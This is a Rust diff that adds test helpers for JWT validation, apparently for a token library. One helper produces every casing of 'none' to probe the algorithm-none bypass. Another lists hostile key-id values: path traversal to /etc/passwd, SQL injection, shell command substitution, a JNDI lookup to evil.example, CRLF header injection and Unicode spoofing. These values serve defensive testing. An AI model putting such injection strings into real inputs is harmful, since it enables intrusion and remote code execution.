@@ -74,3 +74,52 @@ pub(crate) fn with_claims(changes: &Value) -> String {
 pub(crate) fn with_header(changes: &Value) -> String {
     sign(with(header(), changes), claims())
 }
+
+/// `none` in all its 16 casings.
+pub(crate) fn casings_of_none() -> Vec<String> {
+    let upper = |bits: u8, at: usize, letter: char| {
+        if bits & (1 << at) == 0 { letter } else { letter.to_ascii_uppercase() }
+    };
+    (0..16)
+        .map(|bits| "none".chars().enumerate().map(|(at, letter)| upper(bits, at, letter)).collect())
+        .collect()
+}
+
+/// Names of keys that try to be more than names.
+pub(crate) fn hostile_names() -> Vec<String> {
+    let names = [
+        "k2",
+        "K1",
+        "k1 ",
+        " k1",
+        "k1\u{0}",
+        "\u{0}",
+        "../../dev/null",
+        "/etc/passwd",
+        "..\\..\\x",
+        "k1'--",
+        "' OR 1=1 --",
+        "k1; DROP TABLE keys",
+        "$(id)",
+        "`id`",
+        "%6b1",
+        "k1/../k1",
+        "?x=y#z",
+        "http://127.0.0.1/k1",
+        "https://evil.example/k1",
+        "file:///dev/null",
+        "${jndi:ldap://evil.example/k1}",
+        "\r\nX: y",
+        "\u{1b}[2J",
+        "{\"kid\":\"k1\"}",
+        "*",
+        "%",
+        "_",
+        "k\u{131}",
+        "\u{202e}1k",
+        "k1\n",
+        "null",
+        "0",
+    ];
+    names.into_iter().map(str::to_owned).chain(["k".repeat(256)]).collect()
+}
